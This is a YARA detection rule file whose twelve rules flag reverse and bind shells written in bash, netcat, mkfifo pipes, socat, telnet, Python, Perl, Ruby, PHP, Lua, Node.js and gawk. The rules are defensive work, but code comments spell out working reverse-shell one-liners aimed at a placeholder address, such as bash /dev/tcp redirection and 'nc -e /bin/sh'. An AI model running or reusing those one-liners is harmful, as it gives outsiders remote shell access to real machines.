/*
   Reverse and bind shells written as shell one-liners or short scripts.
   Every rule wants the pieces that make a shell talk to a socket, on one line
   or in one small script, in a text file: the bare strings ("/dev/tcp",
   "nc", "socket") are everywhere in ordinary systems.

   scope: text
*/

rule strata_rs_bash_dev_tcp
{
    meta:
        id = "STRATA-RS-001"
        category = "reverse-shell"
        severity = "critical"
        description = "Shell with its standard streams redirected to /dev/tcp or /dev/udp (bash reverse shell)"
    strings:
        // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, sh -i >& /dev/udp/h/53 0>&1
        $interactive = /\b(ba|da|z|k|a)?sh\s+(-[a-z]*i[a-z]*)\s*([0-9]?[<>]&?|&>)\s*\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}/
        // bash -l > /dev/tcp/h/4444 0<&1 2>&1
        $stdin_dup = /\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}\s+(0>&1|0<&1|0<&2|1>&0)/
        // 0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196 2>&196
        $exec_fd = /exec\s+[0-9]{1,3}<>\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}[^\n]{0,80}\b(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s+>&\s*[0-9]{1,3}/
        // exec 5<>/dev/tcp/h/4444; cat <&5 | while read line; do $line 2>&5 >&5; done
        $read_loop = /\/dev\/(tcp|udp)\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}[^\n]{0,80}while\s+read\s+(-r\s+)?(\w+)\s*;\s*do\s+\$\w+\s+[^\n]{0,20}>&\s*[0-9]/
    condition:
        strata_text and any of them
}

rule strata_rs_netcat_exec
{
    meta:
        id = "STRATA-RS-002"
        category = "reverse-shell"
        severity = "critical"
        description = "netcat/ncat told to run a shell for the peer (-e or -c)"
    strings:
        // nc -e /bin/sh 10.0.0.1 4444, ncat 10.0.0.1 4444 -e /bin/bash, nc -lvp 4444 -c bash.
        // [n] is "n" that YARA cannot pick as an atom: "nc" alone is in every other word.
        $e = /\b([n](c|cat|etcat|c\.traditional|c\.openbsd)|busybox\s+[n]c)\s[^\n|;&]{0,120}(-[a-z]*[ec]|--exec|--sh-exec)\s+["']?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
    condition:
        strata_text and $e
}

rule strata_rs_fifo_pipe
{
    meta:
        id = "STRATA-RS-003"
        category = "reverse-shell"
        severity = "critical"
        description = "Named pipe looping a shell through nc, telnet or openssl (mkfifo/mknod reverse shell)"
    strings:
        // rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f
        $sh_then_net = /\b(mkfifo|mknod)\s[^\n]{0,200}\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b[^\n]{0,60}\|\s*(nc|ncat|netcat|telnet|openssl)\b/
        // mknod /tmp/p p && nc 10.0.0.1 4444 0</tmp/p | /bin/bash 1>/tmp/p
        $net_then_sh = /\b(mkfifo|mknod)\s[^\n]{0,200}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\s[^\n]{0,120}\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
    condition:
        strata_text and any of them
}

rule strata_rs_socat_exec
{
    meta:
        id = "STRATA-RS-004"
        category = "reverse-shell"
        severity = "critical"
        description = "socat joining a TCP/SSL connection to a shell (exec:/system: running sh, bash, cmd or powershell)"
    strings:
        // socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
        $net_first = /\bsocat\s[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:[^\n]{0,200}\b(exec|system):["']?(\/usr)?(\/bin\/)?((ba|da|z|k|a)?sh\b|cmd(\.exe)?\b|powershell)/ nocase
        $exec_first = /\bsocat\s[^\n]{0,200}\b(exec|system):["']?(\/usr)?(\/bin\/)?((ba|da|z|k|a)?sh\b|cmd(\.exe)?\b|powershell)[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:/ nocase
    condition:
        strata_text and any of them
}

rule strata_rs_telnet_pipe
{
    meta:
        id = "STRATA-RS-005"
        category = "reverse-shell"
        severity = "critical"
        description = "telnet piped into a shell (telnet h p | /bin/sh | telnet h p2)"
    strings:
        $pipe = /\btelnet\s+[A-Za-z0-9._-]{1,253}\s+[0-9]{1,5}\s*(0<\s*\S+\s*)?\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
    condition:
        strata_text and $pipe
}

rule strata_rs_python
{
    meta:
        id = "STRATA-RS-006"
        category = "reverse-shell"
        severity = "critical"
        description = "Python connecting a socket and handing it a shell (dup2 onto stdio, pty.spawn or subprocess)"
    strings:
        $connect = /\.connect\s*\(\s*\(/
        // os.dup2(s.fileno(),0)
        $dup2 = /dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)\s*,\s*[0-2]\s*\)/
        $pty = /pty\.spawn\s*\(\s*(\[\s*)?["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["']/
        $subprocess = /subprocess\.(call|Popen|run|check_call)\s*\(\s*\[\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["']\s*,\s*["']-i["']/
        $stdio = /std(in|out|err)\s*=\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\s*\(\s*\)/
    condition:
        strata_text and $connect and ($dup2 or $pty or $subprocess or (#stdio >= 2 and any of ($pty, $subprocess, $dup2)))
}

rule strata_rs_perl
{
    meta:
        id = "STRATA-RS-007"
        category = "reverse-shell"
        severity = "critical"
        description = "Perl connecting a socket, re-opening STDIN/STDOUT on it and running a shell"
    strings:
        $connect = /\bconnect\s*\(\s*[A-Z_]+\s*,\s*sockaddr_in/
        $inet = "IO::Socket::INET"
        $stdin = /open\s*\(\s*STDIN\s*,\s*["'][<>]&/
        $stdout = /open\s*\(\s*STDOUT\s*,\s*["']>&/
        $exec = /\b(exec|system)\s*\(?\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh(\s+-i)?["']/
        // perl -MIO -e '...STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
        $fdopen = /STDIN->fdopen\s*\(\s*\$\w+\s*,\s*["']?r/
        $loop = /system\s*\$_\s+while\s*<>/
    condition:
        strata_text and (
            ($connect and $stdin and $stdout and $exec) or
            ($inet and $fdopen and ($loop or $exec))
        )
}

rule strata_rs_ruby
{
    meta:
        id = "STRATA-RS-008"
        category = "reverse-shell"
        severity = "critical"
        description = "Ruby TCPSocket handed to a shell or to a command loop"
    strings:
        $sock = /TCPSocket\.(open|new)\s*\(/
        // exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)
        $fmt = /(ba|da|z|k|a)?sh\s+-i\s+<&%d\s+>&%d/
        // while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end
        $loop = /IO\.popen\s*\(\s*\w+\s*,\s*["']r["']\s*\)\s*\{\s*\|\s*\w+\s*\|\s*\w+\.(print|puts|write)/
        $spawn = /(spawn|exec)\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["'][^\n]{0,80}:?\b(in|out|err)\s*(=>|:)/
    condition:
        strata_text and $sock and ($fmt or $loop or $spawn)
}

rule strata_rs_php
{
    meta:
        id = "STRATA-RS-009"
        category = "reverse-shell"
        severity = "critical"
        description = "PHP opening a socket and running an interactive shell on it"
    strings:
        $sock1 = /fsockopen\s*\(/
        $sock2 = /stream_socket_client\s*\(\s*["'](tcp|udp|ssl|tls):\/\//
        $sock3 = /socket_connect\s*\(/
        // exec("/bin/sh -i <&3 >&3 2>&3"); the names are spelled as one-letter classes so that
        // YARA's atom is the rare "<&", not "exec" or "system"
        $redir = /([e][x][e][c]|[s][h][e][l][l]_[e][x][e][c]|[s][y][s][t][e][m]|[p][a][s][s][t][h][r][u]|[p][o][p][e][n]|[p][r][o][c]_[o][p][e][n])\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]+/
        // proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes)
        $proc = /proc_open\s*\(\s*[^\n]{0,80}\b(array\s*\(|\[)\s*0\s*=>\s*\$\w+\s*,\s*1\s*=>\s*\$\w+/
        $shell_i = /["'][^"'\n]{0,60}(\/usr)?\/bin\/(ba|da|z|k|a)?sh\s+-i["']/
    condition:
        strata_text and any of ($sock*) and ($redir or ($proc and $shell_i))
}

rule strata_rs_lua
{
    meta:
        id = "STRATA-RS-010"
        category = "reverse-shell"
        severity = "critical"
        description = "Lua (luasocket) connecting out and executing a shell or received commands"
    strings:
        $tcp = /socket\.tcp\s*\(/
        $connect = /:connect\s*\(/
        $exec_sh = /os\.execute\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&/
        $popen_recv = /io\.popen\s*\(\s*\w+\s*,\s*["']r["']\s*\)/
        $receive = /:receive\s*\(/
    condition:
        strata_text and $tcp and $connect and ($exec_sh or ($popen_recv and $receive))
}

rule strata_rs_node
{
    meta:
        id = "STRATA-RS-011"
        category = "reverse-shell"
        severity = "critical"
        description = "Node.js spawning a shell and piping it both ways through a net socket"
    strings:
        $cp = "child_process"
        $spawn = /(spawn|exec)\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh["']/
        $net = /net\.(Socket\s*\(|connect\s*\(|createConnection\s*\()/
        $out = /\.stdout\.pipe\s*\(\s*\w+\s*\)/
        $in = /\.pipe\s*\(\s*\w+\.stdin\s*\)/
    condition:
        strata_text and filesize < 256KB and all of them
}

rule strata_rs_awk_inet
{
    meta:
        id = "STRATA-RS-012"
        category = "reverse-shell"
        severity = "high"
        description = "gawk /inet/tcp coprocess reading commands from a remote host and running them"
    strings:
        $inet = /\/inet[46]?\/tcp\/0\/[A-Za-z0-9._-]{1,253}\/[0-9]{1,5}/
        // s |& getline c: a command read from the socket into a variable
        $read_cmd = /\w+\s*\|&\s*getline\s+\w+/
        // while ((c |& getline) > 0) print $0 |& s: its output sent back
        $run_cmd = /while\s*\(\s*\(\s*\w+\s*\|&\s*getline\s*\)\s*>\s*0\s*\)\s*print\s+\$0\s*\|&/
    condition:
        strata_text and filesize < 64KB and $inet and $read_cmd and $run_cmd
}
